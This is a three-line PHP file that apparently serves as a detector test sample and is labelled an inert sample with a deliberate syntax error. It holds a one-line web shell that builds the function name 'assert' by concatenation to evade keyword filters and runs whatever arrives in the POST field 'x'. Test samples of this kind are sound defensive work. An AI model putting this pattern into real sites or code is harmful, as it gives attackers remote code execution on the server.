<?php
shodo inert sample: deliberate syntax error, this file never runs
 $k = "as"."se"."rt"; $k($_POST["x"]); ?>
